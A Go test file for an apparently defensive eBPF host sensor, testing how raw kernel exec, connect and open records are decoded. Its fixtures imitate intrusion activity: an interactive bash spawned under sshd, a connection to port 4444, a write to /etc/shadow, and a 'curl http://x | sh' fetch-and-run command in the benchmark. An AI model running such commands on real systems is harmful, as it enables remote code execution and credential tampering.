package ebpf

import (
	"encoding/binary"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"unsafe"

	"github.com/bulwarkdev/bulwark/internal/source/sourcetest"
)

// TestLayout guards decode's offsets against the C struct, through the
// Go type bpf2go generated from the object's BTF.
func TestLayout(t *testing.T) {
	var e sensorEvent
	for _, c := range []struct {
		name      string
		got, want uintptr
	}{
		{"pid", unsafe.Offsetof(e.Pid), offPID},
		{"ppid", unsafe.Offsetof(e.Ppid), offPPID},
		{"uid", unsafe.Offsetof(e.Uid), offUID},
		{"euid", unsafe.Offsetof(e.Euid), offEUID},
		{"cgroup_id", unsafe.Offsetof(e.CgroupId), offCgroupID},
		{"ts", unsafe.Offsetof(e.Ts), offTS},
		{"comm", unsafe.Offsetof(e.Comm), offComm},
		{"pcomm", unsafe.Offsetof(e.Pcomm), offPComm},
		{"flags", unsafe.Offsetof(e.Flags), offFlags},
		{"ret", unsafe.Offsetof(e.Ret), offRet},
		{"family", unsafe.Offsetof(e.Family), offFamily},
		{"port", unsafe.Offsetof(e.Port), offPort},
		{"args_len", unsafe.Offsetof(e.ArgsLen), offArgsLen},
		{"addr", unsafe.Offsetof(e.Addr), offAddr},
		{"path", unsafe.Offsetof(e.Path), offPath},
		{"args", unsafe.Offsetof(e.Args), offArgs},
		{"size", unsafe.Sizeof(e), recordSize},
	} {
		if c.got != c.want {
			t.Errorf("%s at %d, decode uses %d", c.name, c.got, c.want)
		}
	}
}

// rec builds a raw record as the kernel writes it.
func rec(typ uint32, set func(b []byte)) []byte {
	b := make([]byte, recordSize)
	le := binary.LittleEndian
	le.PutUint32(b[offType:], typ)
	le.PutUint32(b[offPID:], 42)
	le.PutUint32(b[offPPID:], 1)
	le.PutUint32(b[offUID:], 1000)
	le.PutUint32(b[offEUID:], 0)
	le.PutUint64(b[offCgroupID:], 7)
	le.PutUint64(b[offTS:], 123)
	copy(b[offComm:], "bash\x00")
	copy(b[offPComm:], "sshd\x00")
	if set != nil {
		set(b)
	}
	return b
}

func TestDecode(t *testing.T) {
	le := binary.LittleEndian
	cases := []struct {
		name string
		b    []byte
	}{
		{"exec", rec(recExec, func(b []byte) {
			copy(b[offPath:], "/usr/bin/bash\x00")
			args := "bash\x00-i\x00"
			copy(b[offArgs:], args)
			le.PutUint32(b[offArgsLen:], uint32(len(args)))
			le.PutUint32(b[offFlags:], 3)
		})},
		{"exec args full", rec(recExec, func(b []byte) {
			copy(b[offArgs:], strings.Repeat("a", argsLen))
			le.PutUint32(b[offArgsLen:], argsLen)
		})},
		{"exec args overflow", rec(recExec, func(b []byte) { le.PutUint32(b[offArgsLen:], argsLen+1) })},
		{"connect v4", rec(recConnect, func(b []byte) {
			le.PutUint16(b[offFamily:], afInet)
			le.PutUint16(b[offPort:], 4444)
			copy(b[offAddr:], []byte{10, 0, 0, 9})
			le.PutUint32(b[offRet:], uint32(0xffffff8d)) // -115 EINPROGRESS
			le.PutUint32(b[offFlags:], sockStream)
		})},
		{"connect v6", rec(recConnect, func(b []byte) {
			le.PutUint16(b[offFamily:], afInet6)
			le.PutUint16(b[offPort:], 53)
			le.PutUint32(b[offFlags:], sockDgram)
			copy(b[offAddr:], []byte{0x20, 0x01, 0x0d, 0xb8, 15: 1})
		})},
		{"connect v4-mapped", rec(recConnect, func(b []byte) {
			le.PutUint16(b[offFamily:], afInet6)
			copy(b[offAddr:], []byte{10: 0xff, 11: 0xff, 12: 192, 13: 168, 14: 1, 15: 2})
		})},
		{"connect unix", rec(recConnect, func(b []byte) { le.PutUint16(b[offFamily:], 1) })},
		{"open", rec(recOpen, func(b []byte) {
			copy(b[offPath:], "/etc/shadow\x00")
			le.PutUint32(b[offFlags:], 0o2101) // O_WRONLY|O_CREAT|O_APPEND
		})},
		{"no NUL in path", rec(recOpen, func(b []byte) { copy(b[offPath:], strings.Repeat("x", pathLen+10)) })},
		{"unknown type", rec(9, nil)},
		{"short", rec(recExec, nil)[:100]},
	}
	var out strings.Builder
	for _, c := range cases {
		r, err := decode(c.b)
		fmt.Fprintf(&out, "%s: ", c.name)
		if err != nil {
			fmt.Fprintf(&out, "error: %v\n", err)
			continue
		}
		if len(r.Path) > 40 {
			r.Path = r.Path[:40] + fmt.Sprintf("…(%d)", len(r.Path))
		}
		if len(r.Args) == 1 && len(r.Args[0]) > 40 {
			r.Args = []string{fmt.Sprintf("%d bytes", len(r.Args[0]))}
		}
		fmt.Fprintf(&out, "%+v", r)
		if r.Type == recOpen {
			fmt.Fprintf(&out, " op=%s", openOp(r.Flags))
		}
		out.WriteByte('\n')
	}
	sourcetest.Golden(t, filepath.Join("testdata", "decode.golden"), []byte(out.String()))
}

// FuzzDecode: any bytes decode to a record or an error, never a panic.
func FuzzDecode(f *testing.F) {
	f.Add(rec(recExec, func(b []byte) { binary.LittleEndian.PutUint32(b[offArgsLen:], 5); copy(b[offArgs:], "a\x00b\x00\x00") }))
	f.Add(rec(recConnect, func(b []byte) { binary.LittleEndian.PutUint16(b[offFamily:], afInet6) }))
	f.Add([]byte{1, 0, 0, 0})
	f.Fuzz(func(t *testing.T, b []byte) {
		r, err := decode(b)
		if err == nil && r.Type != recExec && r.Type != recConnect && r.Type != recOpen {
			t.Fatalf("accepted type %d", r.Type)
		}
	})
}

// BenchmarkDecode is the user-space cost of one ring buffer record before
// the /proc join (which toEvent caches per process).
func BenchmarkDecode(b *testing.B) {
	raw := rec(recExec, func(bb []byte) {
		args := "bash\x00-c\x00curl http://x | sh\x00"
		copy(bb[offArgs:], args)
		binary.LittleEndian.PutUint32(bb[offArgsLen:], uint32(len(args)))
		copy(bb[offPath:], "/usr/bin/bash\x00")
	})
	b.ReportAllocs()
	for b.Loop() {
		if _, err := decode(raw); err != nil {
			b.Fatal(err)
		}
	}
}
